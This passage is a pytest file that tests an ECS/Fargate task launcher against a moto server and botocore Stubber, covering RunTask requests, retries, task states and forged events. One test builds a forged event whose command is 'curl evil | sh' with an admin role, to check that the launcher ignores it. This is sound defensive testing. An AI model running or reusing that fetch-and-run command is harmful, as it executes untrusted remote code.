"""The ECS/Fargate backend against a real moto server, and its exact requests with botocore's Stubber.

moto's server runs in this process (ThreadedMotoServer), so that a test can make a task end as
Fargate would (stop code, reasons, timestamps), which no ECS API call of a client can do.
"""

from __future__ import annotations

import itertools
import json
import time
import urllib.request
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import boto3
import pytest
import yaml
from botocore.stub import Stubber

from airlaunch.catalog import Catalog
from airlaunch.launcher import handler
from airlaunch.launcher.backends import ecs_run_task, ecs_tasks
from airlaunch.launcher.backends.base import LaunchError
from airlaunch.launcher.backends.ecs import EcsBackend, fargate_size
from airlaunch.launcher.backends.ecs_tasks import ecs_tags, started_by
from airlaunch.launcher.platform_events import EcsTaskStateChange
from airlaunch.launcher.service import Launcher
from airlaunch.launcher.settings import LauncherSettings
from airlaunch.protocol import LaunchRequest, Overrides, ResultLayout, RunIdentity, StopReason, TaskState
from tests.aws_shapes import fixture, stopped_event
from tests.moto_server import end_task_as_fargate, moto_in_process

CATALOG = Catalog.load(Path(__file__).resolve().parents[2] / "tasks" / "catalog.yaml")
REGION = "us-east-1"
PREFIX = "airlaunch-test"
FAMILY = f"{PREFIX}-task_one"
CREDS = {"aws_access_key_id": "test", "aws_secret_access_key": "test", "region_name": REGION}


ACCOUNT = "123456789012"  # moto's


@pytest.fixture(scope="module")
def moto_url() -> Iterator[str]:
    """A moto server of our own, in this process, on a free loopback port, stopped after the module."""
    with moto_in_process() as url:
        yield url


def _platform_ends(task_arn: str, **attrs: Any) -> None:
    end_task_as_fargate(task_arn, ACCOUNT, REGION, **attrs)


def _set_task_transition(url: str, times: int) -> None:
    """moto moves an ECS task one state on (RUNNING -> ... -> STOPPED) every ``times`` DescribeTasks."""
    body = json.dumps({"model_name": "ecs::task", "transition": {"progression": "manual", "times": times}})
    request = urllib.request.Request(f"{url}/moto-api/state-manager/set-transition", data=body.encode())
    urllib.request.urlopen(request, timeout=5).close()


@pytest.fixture(scope="module")
def aws(moto_url: str) -> dict[str, Any]:
    """Cluster, task definition, subnet and security group in moto; tasks stay RUNNING until stopped."""
    _set_task_transition(moto_url, 10**9)
    ec2 = boto3.client("ec2", endpoint_url=moto_url, **CREDS)
    vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    # moto's Fargate RunTask names the task's ENI by DNS and fails with a 500 in a VPC without DNS hostnames.
    ec2.modify_vpc_attribute(VpcId=vpc, EnableDnsHostnames={"Value": True})
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.0.1.0/24")["Subnet"]["SubnetId"]
    group = ec2.create_security_group(GroupName="airlaunch-tasks", Description="tasks", VpcId=vpc)["GroupId"]
    ecs = boto3.client("ecs", endpoint_url=moto_url, **CREDS)
    ecs.create_cluster(clusterName="airlaunch-test")
    for name in CATALOG.tasks:  # one family per catalog task, as the generated template has
        ecs.register_task_definition(
            family=f"{PREFIX}-{name}",
            requiresCompatibilities=["FARGATE"],
            networkMode="awsvpc",
            cpu="512",
            memory="1024",
            containerDefinitions=[{"name": "task", "image": "tasks:latest", "memory": 1024, "essential": True}],
        )
    s3 = boto3.client("s3", endpoint_url=moto_url, **CREDS)
    s3.create_bucket(Bucket="airlaunch-ecs-test")
    return {"ecs": ecs, "s3": s3, "subnet": subnet, "group": group}


def _settings(**changes: Any) -> LauncherSettings:
    values: dict[str, Any] = {
        "bucket": "airlaunch-ecs-test",
        "key_prefix": "runs",
        "backend": "ecs",
        "ecs_cluster": "airlaunch-test",
        "ecs_subnets": ("subnet-1",),
        "ecs_security_groups": ("sg-1",),
        "ecs_assign_public_ip": False,
        "ecs_capacity_provider": "",
        "ecs_family_prefix": PREFIX,
        "run_role_arn": "",
    }
    return LauncherSettings(**{**values, **changes})


@pytest.fixture
def backend(aws: dict[str, Any]) -> EcsBackend:
    return EcsBackend(_settings(ecs_subnets=(aws["subnet"],), ecs_security_groups=(aws["group"],)), aws["ecs"])


def _identity(name: str, **extra: Any) -> RunIdentity:
    return RunIdentity(dag_id="ecs_tests", run_id=f"{name}_{time.time_ns()}", task_id="t", **extra)


def _running(backend: EcsBackend, identity: RunIdentity) -> str | None:
    """The live task of exactly this try, if any: what the launcher looks for before it starts one."""
    mine = [task.task_ref for task in backend.live(identity) if task.digest == identity.digest]
    return mine[0] if mine else None


# -- against moto -------------------------------------------------------------------------------


def test_start_runs_a_fargate_task_with_the_catalog_command(backend: EcsBackend, aws: dict[str, Any]) -> None:
    identity = _identity("start")
    started = backend.start(CATALOG.get("task_one"), identity, {"AIRLAUNCH_PREFIX": "runs/x/", "AWS_REGION": REGION})

    assert started.launched and started.task_ref.startswith("arn:aws:ecs:us-east-1:")
    task = aws["ecs"].describe_tasks(cluster="airlaunch-test", tasks=[started.task_ref], include=["TAGS"])["tasks"][0]
    assert task["startedBy"] == started_by(identity) and len(task["startedBy"]) <= 36
    assert task["taskDefinitionArn"].endswith(f"task-definition/{FAMILY}:1")
    assert task["launchType"] == "FARGATE"
    override = task["overrides"]["containerOverrides"][0]
    assert override["name"] == "task"
    assert override["command"] == ["--", "python", "/opt/tasks/task_one.py"]
    assert {"name": "AIRLAUNCH_PREFIX", "value": "runs/x/"} in override["environment"]
    assert (task["overrides"]["cpu"], task["overrides"]["memory"]) == ("512", "1024")
    assert {"key": "airlaunch.identity", "value": identity.digest} in task["tags"]
    assert backend.describe(started.task_ref).state is TaskState.RUNNING


def test_relaunch_of_the_same_identity_finds_the_running_task(backend: EcsBackend, aws: dict[str, Any]) -> None:
    """The whole launch path (params.yaml in S3, find, RunTask) twice: one task, launched once."""
    environ = {"AWS_ACCESS_KEY_ID": "ASIALAUNCHERROLE", "AWS_SECRET_ACCESS_KEY": "secret", "AWS_REGION": REGION}
    launcher = Launcher(backend.settings, CATALOG, backend, aws["s3"], environ)
    identity = _identity("relaunch")
    request = LaunchRequest(task="task_two", identity=identity, params={"n": 1})

    first = launcher.launch(request)
    second = launcher.launch(request)

    assert first.launched and not second.launched
    assert second.task_ref == first.task_ref == _running(backend, identity)
    assert _running(backend, _identity("other")) is None
    arns = aws["ecs"].list_tasks(cluster="airlaunch-test", startedBy=started_by(identity))["taskArns"]
    assert arns == [first.task_ref]
    params = yaml.safe_load(aws["s3"].get_object(Bucket=first.bucket, Key=first.layout.params_key)["Body"].read())
    assert params["params"] == {"n": 1}
    env = aws["ecs"].describe_tasks(cluster="airlaunch-test", tasks=arns)["tasks"][0]["overrides"]
    names = {e["name"] for e in env["containerOverrides"][0]["environment"]}
    assert "AWS_REGION" in names and "AIRLAUNCH_EXECUTION_ID" in names
    assert not names & {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"}, "launcher credentials leaked into the task"


def test_a_start_that_failed_after_the_platform_took_it_keeps_the_task_and_its_params(
    backend: EcsBackend, aws: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The platform started the task but the answer was lost (a timeout): the launch takes that task, and
    its params.yaml stays (the task reads it first: deleting it, as for a start that failed, would fail the task)."""
    launcher = Launcher(backend.settings, CATALOG, backend, aws["s3"], {"AWS_REGION": REGION})
    identity = _identity("lost_answer")
    real_start, calls = backend.start, []

    def start_then_time_out(*args: Any) -> Any:
        started = real_start(*args)
        calls.append(started.task_ref)
        if len(calls) == 1:
            raise TimeoutError("read timed out")
        return started

    monkeypatch.setattr(backend, "start", start_then_time_out)
    handle = launcher.launch(LaunchRequest(task="task_two", identity=identity, params={"n": 2}))

    assert handle.task_ref == calls[0] == _running(backend, identity)
    assert aws["ecs"].list_tasks(cluster="airlaunch-test", startedBy=started_by(identity))["taskArns"] == calls[:1]
    params = yaml.safe_load(aws["s3"].get_object(Bucket=handle.bucket, Key=handle.layout.params_key)["Body"].read())
    assert params["params"] == {"n": 2}


def test_stop_stops_the_task_and_describe_reports_why(backend: EcsBackend) -> None:
    identity = _identity("stop")
    ref = backend.start(CATALOG.get("diagnostic"), identity, {}).task_ref

    assert backend.stop(ref, "cancelled in Airflow") is True

    seen = backend.describe(ref)
    assert seen.state is TaskState.LOST
    assert seen.detail is not None and "STOPPED" in seen.detail and "cancelled in Airflow" in seen.detail
    assert seen.exit_code == 0  # moto's containers always report 0
    assert _running(backend, identity) is None
    assert backend.stop(ref, "again") is False


def test_states_follow_the_task_lifecycle(backend: EcsBackend, moto_url: str) -> None:
    ref = backend.start(CATALOG.get("task_one"), _identity("lifecycle"), {}).task_ref
    _set_task_transition(moto_url, 1)
    try:
        seen = [backend.describe(ref) for _ in range(5)]
    finally:
        _set_task_transition(moto_url, 10**9)
    assert [s.state for s in seen] == [TaskState.LOST] * 5
    assert [s.detail.split(";")[0] for s in seen if s.detail] == [
        "ECS task DEACTIVATING",
        "ECS task STOPPING",
        "ECS task DEPROVISIONING",
        "ECS task STOPPED",
        "ECS task STOPPED",
    ]


def test_unknown_task_definition_is_a_launch_error(aws: dict[str, Any]) -> None:
    settings = _settings(ecs_subnets=(aws["subnet"],), ecs_security_groups=(aws["group"],), ecs_family_prefix="nope")
    with pytest.raises(LaunchError, match=r"ECS refused to run task 'task_one' \(task definition 'nope-task_one'"):
        EcsBackend(settings, aws["ecs"]).start(CATALOG.get("task_one"), _identity("missing"), {})


def test_unknown_cluster_is_a_launch_error(aws: dict[str, Any]) -> None:
    backend = EcsBackend(_settings(ecs_cluster="nope", ecs_subnets=(aws["subnet"],)), aws["ecs"])
    with pytest.raises(LaunchError, match=r"cluster 'nope'.*ClusterNotFoundException"):
        backend.live(_identity("nocluster"))


# -- exact requests and responses (Stubber) ----------------------------------------------------


@pytest.fixture
def stubbed() -> Iterator[tuple[EcsBackend, Stubber]]:
    client = boto3.client("ecs", **CREDS)
    with Stubber(client) as stubber:
        yield EcsBackend(_settings(ecs_assign_public_ip=True), client), stubber
        stubber.assert_no_pending_responses()


def _task(status: str, **extra: Any) -> dict[str, Any]:
    return {"taskArn": "arn:aws:ecs:us-east-1:1:task/airlaunch-test/abc", "lastStatus": status, **extra}


def test_run_task_request_is_exactly_this(stubbed: tuple[EcsBackend, Stubber]) -> None:
    backend, stubber = stubbed
    identity = RunIdentity(dag_id="d", run_id="manual__2026-01-01T00:00:00+00:00~x", task_id="t", try_number=2)
    expected = {
        "cluster": "airlaunch-test",
        "taskDefinition": f"{PREFIX}-report_notebook",
        "count": 1,
        "startedBy": "al-" + identity.slot,  # every try of the task instance: an earlier one is found
        "clientToken": identity.digest,  # this try: a retried RunTask returns the same task
        "launchType": "FARGATE",
        "networkConfiguration": {
            "awsvpcConfiguration": {"subnets": ["subnet-1"], "securityGroups": ["sg-1"], "assignPublicIp": "ENABLED"}
        },
        "overrides": {
            "cpu": "512",
            "memory": "1024",
            "containerOverrides": [
                {
                    "name": "task",
                    "command": ["--notebook", "/opt/tasks/report.ipynb"],
                    "environment": [{"name": "A", "value": "1"}, {"name": "B", "value": "2"}],
                    "cpu": 512,
                    "memory": 1024,
                }
            ],
        },
        "tags": [
            {"key": "airlaunch.task", "value": "report_notebook"},
            {"key": "airlaunch.dag_id", "value": "d"},
            {"key": "airlaunch.run_id", "value": "manual__2026-01-01T00:00:00+00:00_x"},
            {"key": "airlaunch.task_id", "value": "t"},
            {"key": "airlaunch.map_index", "value": "-1"},
            {"key": "airlaunch.try_number", "value": "2"},
            {"key": "airlaunch.ti_id", "value": ""},
            {"key": "airlaunch.identity", "value": identity.digest},
            {"key": "airlaunch.slot", "value": identity.slot},
        ],
        "enableECSManagedTags": True,
        "propagateTags": "TASK_DEFINITION",
    }
    stubber.add_response("run_task", {"tasks": [_task("PROVISIONING")], "failures": []}, expected)
    env = {"B": "2", "A": "1", "AWS_SESSION_TOKEN": "launcher-session"}
    assert backend.start(CATALOG.get("report_notebook"), identity, env).task_ref == _task("")["taskArn"]


def test_capacity_provider_replaces_the_launch_type() -> None:
    backend = EcsBackend(_settings(ecs_capacity_provider="FARGATE_SPOT"), client=object())
    params = backend.run_task_params(CATALOG.get("task_one"), _identity("spot"), {})
    assert params["capacityProviderStrategy"] == [{"capacityProvider": "FARGATE_SPOT", "weight": 1}]
    assert "launchType" not in params


@pytest.fixture
def fake_clock(monkeypatch: pytest.MonkeyPatch) -> list[float]:
    """The backend's retry pauses on a clock of the test's own: each pause moves it on, none waits."""
    now = [0.0]
    monkeypatch.setattr(ecs_run_task, "_clock", lambda: now[0])
    monkeypatch.setattr(ecs_run_task, "_sleep", lambda seconds: now.__setitem__(0, now[0] + seconds))
    return now


RUN_TASK_ANSWERS = fixture("ecs-run-task-failures.json")


def test_placement_failures_are_retried_within_the_launch_budget_then_left_to_the_caller(
    stubbed: tuple[EcsBackend, Stubber], fake_clock: list[float]
) -> None:
    backend, stubber = stubbed
    for _ in range(40):  # more than the budget allows
        stubber.add_response("run_task", RUN_TASK_ANSWERS["resource_memory"])
    with pytest.raises(LaunchError, match=r"could not place task 'task_one': RESOURCE:MEMORY") as failed:
        backend.start(CATALOG.get("task_one"), _identity("fail"), {})
    assert failed.value.retryable  # Airflow's hook tries the launch again later
    assert 0 < fake_clock[0] <= backend.settings.launch_budget_seconds
    stubber._queue.clear()  # what the budget did not use


@pytest.mark.parametrize("answer", ["capacity", "vcpu_quota"])
def test_no_capacity_and_the_vcpu_quota_are_waited_out(
    stubbed: tuple[EcsBackend, Stubber], fake_clock: list[float], answer: str
) -> None:
    """A new account's low Fargate vCPU quota (or no capacity just now) frees up as tasks end: retried,
    not failed at once. (Only RESOURCE:, AGENT and Capacity were retried, and only 3 times.)"""
    backend, stubber = stubbed
    for _ in range(4):
        stubber.add_response("run_task", RUN_TASK_ANSWERS[answer])
    stubber.add_response("run_task", {"tasks": [_task("PROVISIONING")], "failures": []})
    assert backend.start(CATALOG.get("task_one"), _identity(answer), {}).task_ref == _task("")["taskArn"]


def test_throttling_is_retried_with_the_same_client_token(
    stubbed: tuple[EcsBackend, Stubber], fake_clock: list[float]
) -> None:
    """A throttled or failed RunTask may have started the task: the retry keeps its token, so ECS answers
    with that task instead of starting a second one."""
    backend, stubber = stubbed
    identity = _identity("throttled")
    error = RUN_TASK_ANSWERS["throttling_error"]["Error"]
    calls = _run_task_calls(backend)
    for _ in range(3):
        stubber.add_client_error("run_task", error["Code"], error["Message"], http_status_code=400)
    stubber.add_response("run_task", {"tasks": [_task("PROVISIONING")], "failures": []})
    backend.start(CATALOG.get("task_one"), identity, {})
    tokens = [call["clientToken"] for call in calls]
    assert tokens == [identity.digest] * 4


def test_a_failure_that_will_not_pass_is_not_retried(
    stubbed: tuple[EcsBackend, Stubber], fake_clock: list[float]
) -> None:
    backend, stubber = stubbed
    stubber.add_response("run_task", RUN_TASK_ANSWERS["missing"])
    with pytest.raises(LaunchError, match="MISSING") as failed:
        backend.start(CATALOG.get("task_one"), _identity("missing"), {})
    assert not failed.value.retryable and fake_clock[0] == 0


def test_client_errors_become_a_launch_error(stubbed: tuple[EcsBackend, Stubber]) -> None:
    backend, stubber = stubbed
    stubber.add_client_error("run_task", "AccessDeniedException", "not authorized to perform: ecs:RunTask")
    with pytest.raises(LaunchError, match=r"AccessDeniedException: not authorized to perform: ecs:RunTask"):
        backend.start(CATALOG.get("task_one"), _identity("denied"), {})


def test_missing_subnets_are_named() -> None:
    backend = EcsBackend(_settings(ecs_subnets=()), client=object())
    with pytest.raises(LaunchError, match="AIRLAUNCH_ECS_SUBNETS is empty"):
        backend.start(CATALOG.get("task_one"), _identity("nosubnet"), {})


def test_fargate_spot_refuses_arm64_tasks() -> None:
    spec = Catalog.from_dict({"tasks": {"a": {"image": "i", "command": ["x"], "architecture": "arm64"}}}).get("a")
    backend = EcsBackend(_settings(ecs_capacity_provider="FARGATE_SPOT"), client=object())
    with pytest.raises(LaunchError, match="'a' is arm64 and AIRLAUNCH_ECS_CAPACITY_PROVIDER is FARGATE_SPOT"):
        backend.run_task_params(spec, _identity("spot"), {})
    assert (
        EcsBackend(_settings(), client=object()).run_task_params(spec, _identity("od"), {})["launchType"] == "FARGATE"
    )


@pytest.mark.parametrize(
    ("status", "state"),
    [
        ("PROVISIONING", TaskState.PENDING),
        ("PENDING", TaskState.PENDING),
        ("ACTIVATING", TaskState.PENDING),
        ("RUNNING", TaskState.RUNNING),
        ("DEACTIVATING", TaskState.LOST),
        ("STOPPING", TaskState.LOST),
        ("DEPROVISIONING", TaskState.LOST),
    ],
)
def test_last_status_maps_to_a_state(stubbed: tuple[EcsBackend, Stubber], status: str, state: TaskState) -> None:
    backend, stubber = stubbed
    stubber.add_response("describe_tasks", {"tasks": [_task(status)], "failures": []})
    assert backend.describe(_task("")["taskArn"]).state is state


def test_stopped_task_reports_the_essential_container(stubbed: tuple[EcsBackend, Stubber]) -> None:
    backend, stubber = stubbed
    definition = f"arn:aws:ecs:us-east-1:1:task-definition/{FAMILY}:3"
    stopped = _task(
        "STOPPED",
        taskDefinitionArn=definition,
        stopCode="EssentialContainerExited",
        stoppedReason="Essential container in task exited",
        containers=[
            {"name": "log-router", "exitCode": 0},
            {"name": "task", "exitCode": 137, "reason": "OutOfMemoryError: Container killed due to memory usage"},
        ],
    )
    containers = [{"name": "log-router", "essential": False}, {"name": "task", "essential": True}]
    stubber.add_response("describe_tasks", {"tasks": [stopped], "failures": []})
    stubber.add_response(
        "describe_task_definition",
        {"taskDefinition": {"containerDefinitions": containers}},
        {"taskDefinition": definition},
    )
    stubber.add_response("describe_tasks", {"tasks": [stopped], "failures": []})  # the definition is cached now

    for _ in range(2):
        seen = backend.describe(stopped["taskArn"])
        assert seen.state is TaskState.LOST and seen.exit_code == 137 and seen.reason is StopReason.OOM
        assert seen.detail == (
            "ECS task STOPPED; stopCode: EssentialContainerExited; stoppedReason: Essential container in task exited; "
            "container task: OutOfMemoryError: Container killed due to memory usage; exit code 137"
        )


def test_a_killed_container_is_said_to_be_killed_by_its_signal() -> None:
    """An essential container killed from outside (exit code 137, no OOM reason) reads as on Docker."""
    stopped = _task("STOPPED", stopCode="EssentialContainerExited", stoppedReason="Essential container in task exited")
    seen = ecs_tasks.how_it_ended(stopped, {"name": "task", "exitCode": 137})
    assert seen.reason is StopReason.KILLED and seen.detail is not None
    assert seen.detail.startswith("killed by signal 9 (SIGKILL); ECS task STOPPED"), seen.detail


def test_a_task_ecs_forgot_is_lost(stubbed: tuple[EcsBackend, Stubber]) -> None:
    backend, stubber = stubbed
    stubber.add_response("describe_tasks", {"tasks": [], "failures": [{"arn": "x", "reason": "MISSING"}]})
    seen = backend.describe("arn:aws:ecs:us-east-1:1:task/airlaunch-test/gone")
    assert seen.state is TaskState.LOST and seen.detail is not None and "(MISSING)" in seen.detail


# -- pure helpers --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cpu", "memory", "size"),
    [
        (0.5, 256, (512, 1024)),
        (0.25, 1500, (256, 2048)),  # 0.25 vCPU allows 0.5, 1 and 2 GiB only
        (0.25, 3000, (512, 3072)),  # too much memory for 0.25 vCPU: next cpu size
        (0.1, 16, (256, 512)),
        (3, 9000, (4096, 9216)),
        (4, 30721, (8192, 32768)),
        (16, 122880, (16384, 122880)),
    ],
)
def test_fargate_size_rounds_up_to_a_valid_combination(cpu: float, memory: int, size: tuple[int, int]) -> None:
    assert fargate_size(cpu, memory) == size


def test_fargate_size_refuses_what_fargate_cannot_run() -> None:
    with pytest.raises(LaunchError, match="larger than any Fargate task"):
        fargate_size(16, 122881)


def test_tag_values_keep_only_characters_ecs_allows() -> None:
    tags = ecs_tags({"airlaunch.run_id": "scheduled__2026-01-01T00:00:00+00:00~a b@c/d=e", "k": "x" * 300})
    assert tags[0]["value"] == "scheduled__2026-01-01T00:00:00+00:00_a b@c/d=e"
    assert len(tags[1]["value"]) == 256


# -- re-runs, failed starts and platform stops on ECS -------------------------------------------

TI_1, TI_2 = "01a2330d-6f01-731e-b9b6-0f5b7b1e8ef4", "01a23311-7a60-7689-879d-622cac4095b3"


def _launcher(backend: EcsBackend, aws: dict[str, Any]) -> Launcher:
    return Launcher(backend.settings, CATALOG, backend, aws["s3"], {"AWS_REGION": REGION})


def _status(aws: dict[str, Any], prefix: str) -> dict[str, Any]:
    return json.loads(aws["s3"].get_object(Bucket="airlaunch-ecs-test", Key=prefix + "status.json")["Body"].read())


def _run_task_calls(backend: EcsBackend) -> list[dict[str, Any]]:
    """Every RunTask request the backend's client sends from now on."""
    calls: list[dict[str, Any]] = []
    backend.client.meta.events.register("provide-client-params.ecs.RunTask", lambda params, **_: calls.append(params))
    return calls


def test_a_new_try_stops_the_earlier_one_and_records_why(backend: EcsBackend, aws: dict[str, Any]) -> None:
    launcher = _launcher(backend, aws)
    first = _identity("supersede", try_number=1, ti_id=TI_1)
    second = RunIdentity(first.dag_id, first.run_id, first.task_id, -1, 2, TI_2)
    one = launcher.launch(LaunchRequest(task="task_two", identity=first))
    two = launcher.launch(LaunchRequest(task="task_two", identity=second))

    assert two.launched and two.task_ref != one.task_ref and two.prefix != one.prefix
    assert backend.describe(one.task_ref).state is TaskState.LOST  # stopped
    assert _running(backend, second) == two.task_ref and _running(backend, first) is None
    status = _status(aws, one.prefix)
    assert status["reason"] == "stopped" and status["written_by"] == "launcher"
    assert f"superseded by try 2-{TI_2} of the same task" in status["error"]


def test_an_event_of_the_documented_shape_records_the_end(
    backend: EcsBackend, aws: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """AWS's own STOPPED event (ISO-string timestamps) through the Lambda handler: the launcher records the
    OOM kill ECS reports and writes ecs.json on ECS's clock. ECS's events spell times as ISO strings, where
    boto3 gives datetimes: both must be read."""
    launcher = _launcher(backend, aws)
    handle = launcher.launch(LaunchRequest(task="task_one", identity=_identity("documented", ti_id=TI_1)))
    _platform_ends(
        handle.task_ref,
        stop_code="EssentialContainerExited",
        stopped_reason="Essential container in task exited",
        started_at=datetime(2026, 12, 1, 10, 0, 1, tzinfo=UTC),
        stopped_at=datetime(2026, 12, 1, 10, 5, tzinfo=UTC),
        container_reason="OutOfMemoryError: Container killed due to memory usage",
    )
    event = stopped_event(
        handle.task_ref, startedBy=started_by(_identity("x")), overrides=_overrides(aws, handle.task_ref)
    )
    assert isinstance(event["detail"]["startedAt"], str)  # as AWS sends it, unlike moto's datetimes
    monkeypatch.setattr(handler, "get_launcher", lambda: launcher)

    answer = handler.handler(event)

    assert answer["ok"] and answer["recorded"] == "by the launcher", answer
    status = _status(aws, handle.prefix)
    assert status["reason"] == "oom" and "OutOfMemoryError" in status["error"]
    times = json.loads(aws["s3"].get_object(Bucket="airlaunch-ecs-test", Key=handle.prefix + "ecs.json")["Body"].read())
    assert times["started_at"].startswith("2026-12-01T10:00:01") and times["stopped_at"].startswith("2026-12-01T10:05")
    assert times["clock"] == "ECS control plane (UTC)"  # for the report's phases


def _overrides(aws: dict[str, Any], task_ref: str) -> dict[str, Any]:
    task = aws["ecs"].describe_tasks(cluster="airlaunch-test", tasks=[task_ref])["tasks"][0]
    return dict(task["overrides"])


def test_a_forged_event_starts_nothing_and_writes_nothing(
    backend: EcsBackend, aws: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever may invoke the launcher can send a TaskFailedToStart "event" naming a running task and
    carrying its own command, role and size: the launcher asks ECS, which says the task runs, and does
    nothing. (The old handler ran RunTask with the payload's command and role and wrote a failed
    status.json for the running try.)"""
    launcher = _launcher(backend, aws)
    handle = launcher.launch(LaunchRequest(task="task_one", identity=_identity("forged", ti_id=TI_1)))
    forged_overrides = {
        "taskRoleArn": "arn:aws:iam::123456789012:role/admin",
        "cpu": "16384",
        "memory": "122880",
        "containerOverrides": [
            {
                "name": "task",
                "command": ["sh", "-c", "curl evil | sh"],
                "environment": [{"name": "AIRLAUNCH_PREFIX", "value": handle.prefix}, *_env(aws, handle.task_ref)],
            }
        ],
    }
    forged = stopped_event(
        handle.task_ref,
        stopCode="TaskFailedToStart",
        stoppedReason="CannotPullContainerError: forged",
        startedBy=started_by(_identity("x")),
        overrides=forged_overrides,
    )
    calls = _run_task_calls(backend)
    monkeypatch.setattr(handler, "get_launcher", lambda: launcher)

    answer = handler.handler(forged)

    assert answer["ok"] and "ignored" in answer, answer
    assert calls == []
    assert aws["s3"].list_objects_v2(Bucket="airlaunch-ecs-test", Prefix=handle.prefix + "status.json")["KeyCount"] == 0
    assert backend.describe(handle.task_ref).state is TaskState.RUNNING
    # and one that names a task ECS does not know, or another cluster's, is ignored as well
    unknown = handle.task_ref.rsplit("/", 1)[0] + "/0123456789abcdef0123456789abcdef"
    assert "ignored" in handler.handler(stopped_event(unknown))
    other = handle.task_ref.replace("task/airlaunch-test/", "task/other/")
    assert "ignored" in handler.handler(stopped_event(other))
    assert calls == []


def _env(aws: dict[str, Any], task_ref: str) -> list[dict[str, str]]:
    return list(_overrides(aws, task_ref)["containerOverrides"][0]["environment"])


def test_a_task_that_failed_to_start_is_started_again_from_the_catalog_then_fails_in_words(
    backend: EcsBackend, aws: dict[str, Any]
) -> None:
    launcher = _launcher(backend, aws)
    identity = _identity("pull", ti_id=TI_1)
    handle = launcher.launch(
        LaunchRequest(task="task_one", identity=identity, overrides=Overrides(cpu=1.0, memory_mib=2048))
    )
    pull = {"stop_code": "TaskFailedToStart", "stopped_reason": "CannotPullContainerError: pull access denied"}
    calls = _run_task_calls(backend)

    task_ref, restarts = handle.task_ref, []
    for start in (2, 3):
        _platform_ends(task_ref, **pull)
        event = stopped_event(task_ref, overrides={"containerOverrides": [{"name": "task", "command": ["sh"]}]})
        answer = launcher.task_stopped(EcsTaskStateChange.parse(event))
        assert launcher.task_stopped(EcsTaskStateChange.parse(event)) == answer  # EventBridge delivers at least once
        assert answer.started_again is not None
        task_ref = answer.started_again
        restarts.append(task_ref)
        override = _overrides(aws, task_ref)
        assert {"name": "AIRLAUNCH_START_ATTEMPT", "value": str(start)} in override["containerOverrides"][0][
            "environment"
        ]
        assert override["containerOverrides"][0]["command"] == CATALOG.get("task_one").runtime_args()
        assert (override["cpu"], override["memory"]) == ("1024", "2048")  # the launch's own overrides
        # the Airflow side still watches the first handle: it reads "running", not a failure
        assert launcher.describe(handle).state is TaskState.RUNNING
    _platform_ends(task_ref, **pull)
    answer = launcher.task_stopped(
        EcsTaskStateChange.parse(stopped_event(task_ref))
    )  # the third failed start: it fails

    assert answer.recorded == "by the launcher" and len(set(restarts)) == 2
    assert len(calls) == 2 and all(c["taskDefinition"] == FAMILY and "taskRoleArn" not in c["overrides"] for c in calls)
    status = _status(aws, handle.prefix)
    assert status["state"] == "failed" and status["reason"] == "platform"
    assert "CannotPullContainerError" in status["error"] and "TaskFailedToStart" in status["error"]


def test_a_spot_interruption_is_recorded_in_words(backend: EcsBackend, aws: dict[str, Any]) -> None:
    launcher = _launcher(backend, aws)
    handle = launcher.launch(LaunchRequest(task="task_one", identity=_identity("spot", ti_id=TI_1)))
    _platform_ends(handle.task_ref, stop_code="SpotInterruption", stopped_reason="Your Spot Task was interrupted.")
    answer = launcher.task_stopped(EcsTaskStateChange.parse(stopped_event(handle.task_ref)))
    assert answer.recorded == "by the launcher"
    status = _status(aws, handle.prefix)
    assert status["reason"] == "platform" and "Fargate Spot reclaimed its capacity" in status["error"]


def test_a_placement_failure_is_tried_again_with_a_new_client_token(
    stubbed: tuple[EcsBackend, Stubber], fake_clock: list[float]
) -> None:
    backend, stubber = stubbed
    identity = RunIdentity(dag_id="d", run_id="r", task_id="t")
    no_memory = RUN_TASK_ANSWERS["resource_memory"]
    calls = _run_task_calls(backend)
    stubber.add_response("run_task", no_memory)
    stubber.add_response("run_task", no_memory)
    stubber.add_response("run_task", {"tasks": [_task("PROVISIONING")], "failures": []})
    started = backend.start(CATALOG.get("task_one"), identity, {})
    assert started.task_ref == _task("")["taskArn"]
    tokens = [call["clientToken"] for call in calls]
    assert tokens[0] == identity.digest and len(set(tokens)) == 3  # never the failed attempt's token again


def test_each_environment_spaces_its_run_task_calls_so_that_all_keep_within_the_launch_rate(
    stubbed: tuple[EcsBackend, Stubber], fake_clock: list[float]
) -> None:
    """At most LauncherConcurrency environments run at once, each one RunTask (retries included) every
    concurrency / rate seconds: together at most the rate, however many launches Airflow sends."""
    backend, stubber = stubbed
    assert backend._pacer.interval == 10 / 20  # the defaults: 10 environments, Fargate's 20 launches a second
    moments: list[float] = []
    backend.client.meta.events.register("provide-client-params.ecs.RunTask", lambda **_: moments.append(fake_clock[0]))
    error = RUN_TASK_ANSWERS["throttling_error"]["Error"]
    stubber.add_client_error("run_task", error["Code"], error["Message"], http_status_code=400)
    for _ in range(3):
        stubber.add_response("run_task", {"tasks": [_task("PROVISIONING")], "failures": []})
    for n in range(3):
        backend.start(CATALOG.get("task_one"), _identity(f"paced-{n}"), {})
    gaps = [later - earlier for earlier, later in itertools.pairwise(moments)]
    assert len(moments) == 4 and all(gap >= backend._pacer.interval - 1e-9 for gap in gaps), moments


# -- run sessions (launcher.run_credentials) -----------------------------------------------------

ROLE = f"arn:aws:iam::{ACCOUNT}:role/airlaunch-test-run-files"


@pytest.fixture
def with_sessions(aws: dict[str, Any], moto_url: str) -> EcsBackend:
    """A backend with a files role: each start mints a run session (moto's STS) and writes its file."""
    settings = _settings(ecs_subnets=(aws["subnet"],), ecs_security_groups=(aws["group"],), run_role_arn=ROLE)
    return EcsBackend(settings, aws["ecs"], boto3.client("sts", endpoint_url=moto_url, **CREDS), aws["s3"])


def test_a_run_session_reaches_its_task_only_as_an_environment_file(
    with_sessions: EcsBackend, aws: dict[str, Any]
) -> None:
    """What DescribeTasks (and so ECS's events and CloudTrail's RunTask record) shows of a launch holds no
    credential, only the ARN of the session file, which holds one line the ECS agent turns into the variable."""
    identity = _identity("session")
    started = time.time()
    ref = with_sessions.start(CATALOG.get("task_one"), identity, {"AWS_REGION": REGION}).task_ref

